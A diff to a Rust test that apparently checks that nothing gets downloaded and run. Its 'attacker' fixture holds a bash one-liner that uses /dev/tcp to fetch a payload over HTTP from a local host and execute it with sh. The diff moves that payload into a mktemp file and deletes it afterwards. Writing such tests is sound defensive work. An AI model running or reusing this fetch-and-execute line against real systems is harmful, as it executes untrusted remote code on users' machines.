@@ -195,7 +195,7 @@ fn nothing_is_downloaded_and_run() {
         &attacker,
         r#"
         let load = "exec 3<>/dev/tcp/127.0.0.1/HTTP; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; \
-            sed '1,2d' <&3 >\"$TMPDIR/payload\" && sh \"$TMPDIR/payload\" 'HOME_DIR/ran'";
+            payload=$(mktemp); sed '1,2d' <&3 >\"$payload\" && sh \"$payload\" 'HOME_DIR/ran'; rm \"$payload\"; :";
         std::process::Command::new("bash").args(["-c", load])
             .env("TMPDIR", std::env::temp_dir()).status().unwrap();
         "#,
